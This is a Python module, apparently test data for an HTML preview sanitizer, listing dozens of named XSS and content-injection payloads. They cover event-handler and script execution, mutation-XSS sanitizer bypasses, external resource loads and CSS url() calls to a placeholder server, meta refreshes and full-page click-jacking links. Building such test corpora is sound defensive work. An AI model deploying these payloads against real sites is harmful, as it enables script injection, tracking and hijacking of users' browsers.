"""HTML that wants out of the preview: each entry runs, loads, dials or leads away in a browser that shows it unguarded.

`OUT` stands for the address of somebody else's server. What runs says `RAN` on the console.
"""

from typing import Final

OVER_ALL: Final = 'style="position:fixed;inset:0;display:block;width:100%;height:100%"'
RUN: Final = "console.log('RAN')"

# What happens by itself.
BY_ITSELF: Final = {
    "script": f"<script>{RUN}</script>",
    "script from outside": "<script src=OUT></script>",
    "module": "<script type=module>import 'OUT'</script>",
    "module preload": "<link rel=modulepreload href=OUT>",
    "image with a handler": f"<img src=x onerror={RUN}>",
    "handler without a space": f"<img/src=x/onerror={RUN}>",
    "handler in capitals": f"<IMG SRC=x OnErRoR={RUN}>",
    "svg with a handler": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "body with a handler": f"<body onload={RUN}>",
    "focus": f"<input autofocus onfocus={RUN}>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "animation handler": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "frame with a document": f'<iframe srcdoc="<script>{RUN}</script><img src=OUT>"></iframe>',
    "frame with an address": "<iframe src=OUT></iframe>",
    "frame with a script": f'<iframe src="javascript:{RUN}"></iframe>',
    "frameset": "<frameset><frame src=OUT></frameset>",
    "object": "<object data=OUT></object>",
    "embed": "<embed src=OUT>",
    "refresh": '<meta http-equiv=refresh content="0;url=OUT">',
    "refresh in capitals": '<META HTTP-EQUIV="ReFresh" CONTENT="0; URL=OUT">',
    "refresh to a script": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "base": '<base href="OUT"><img src=x>',
    "image": "<img src=OUT>",
    "image by its sets": '<img srcset="OUT 1x, data:image/gif;base64,R0lGODdh 2x">',
    "picture": "<picture><source srcset=OUT><img src=x></picture>",
    "background": "<table background=OUT><tr><td>x</table>",
    "video": "<video autoplay src=OUT poster=OUT></video>",
    "image button": "<input type=image src=OUT>",
    "sheet from outside": "<link rel=stylesheet href=OUT>",
    "preconnect": "<link rel=preconnect href=OUT>",
    "preload": "<link rel=preload as=image href=OUT>",
    "prefetch": "<link rel=prefetch href=OUT>",
    "icon": "<link rel=icon href=OUT>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["OUT"]}]}</script>',
    "svg image": "<svg><image href=OUT width=9 height=9 /></svg>",
    "svg use": "<svg><use href=OUT#x /></svg>",
    "svg image set later": "<svg><image width=9 height=9><set attributeName=href to=OUT begin=0s /></image></svg>",
    "attribute with an entity": "<img src='&#104;ttp&#58;//OUTHOST'>",
    "comment that ends early": f"<!--><img src=OUT onerror={RUN}>-->",
    "comment that ends with a bang": f"<!-- --!><img src=OUT onerror={RUN}>-->",
    "style in svg": f"<svg><style><img src=OUT onerror={RUN}></style></svg>",
    "cdata in svg": f"<svg><![CDATA[><img src=OUT onerror={RUN}>]]></svg>",
    "title that ends inside": f"<title><!--</title><img src=OUT onerror={RUN}>--></title>",
    "text area in math": f"<math><mtext><textarea></mtext><a title='</textarea><img src=OUT onerror={RUN}>'>",
    "noscript": f"<noscript><p title='</noscript><img src=OUT onerror={RUN}>'></noscript>",
    "broken quotes": f"<p a='b\"c' d=\"e'><img src=OUT onerror={RUN}>\">x",
    "name with a quote": f'<p "="><img src=OUT onerror={RUN}>',
    "tag in a tag": f"<scr<script>ipt>{RUN}</script>",
    "shadow": "<div><template shadowrootmode=open><img src=OUT></template></div>",
}  # fmt: skip
# The same by a style: this is left to the policy, because no rewriting of style sheets is worth its trust.
BY_STYLE: Final = {
    "imported sheet": "<style>@import 'OUT';</style>",
    "background in a sheet": "<style>html{background:url(OUT)}</style>",
    "background of an element": '<p style="background:url(OUT)">x',
    "image set": "<p style=\"background:image-set('OUT' 1x)\">x",
    "font": "<style>@font-face{font-family:f;src:url(OUT)}p{font-family:f}</style><p>x",
    "list mark": '<ul style="list-style:url(OUT)"><li>x</ul>',
    "content": "<style>p:before{content:url(OUT)}</style><p>x",
    "svg paint": '<svg><rect width=9 height=9 fill="url(OUT#x)" filter="url(OUT#y)" mask="url(OUT#z)" /></svg>',
    "escaped": r'<p style="background:\75\72\6c(OUT)">x',
}
# What needs a click, which it gets.
BY_CLICK: Final = {
    "link": f"<a href=OUT {OVER_ALL}>x</a>",
    "link to the top": f"<a href=OUT target=_top {OVER_ALL}>x</a>",
    "link to a window": f"<a href=OUT target=_blank {OVER_ALL}>x</a>",
    "link that runs": f'<a href="javascript:{RUN}" {OVER_ALL}>x</a>',
    "link that runs, hidden": f'<a href="&#9;java&Tab;script:{RUN}" {OVER_ALL}>x</a>',
    "link with a ping": f"<a href=#x ping=OUT {OVER_ALL}>x</a>",
    "link with data": f'<a href="data:text/html,<script>{RUN}</script>" {OVER_ALL}>x</a>',
    "form": f"<form action=OUT><button {OVER_ALL}>x</button></form>",
    "form of a button": f"<form><input type=submit formaction=OUT {OVER_ALL}></form>",
    "svg link": f"<svg {OVER_ALL}><a xlink:href=OUT><rect width=2000 height=2000 /></a></svg>",
    "svg link set later": (
        f"<svg {OVER_ALL}><a><rect width=2000 height=2000 /><set attributeName=href to=OUT begin=0s /></a></svg>"
    ),
    "area": f'<img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" {OVER_ALL}>'
    "<map name=m><area shape=default href=OUT></map>",
    "handler": f"<p onclick={RUN} onmousedown={RUN} {OVER_ALL}>x</p>",
}
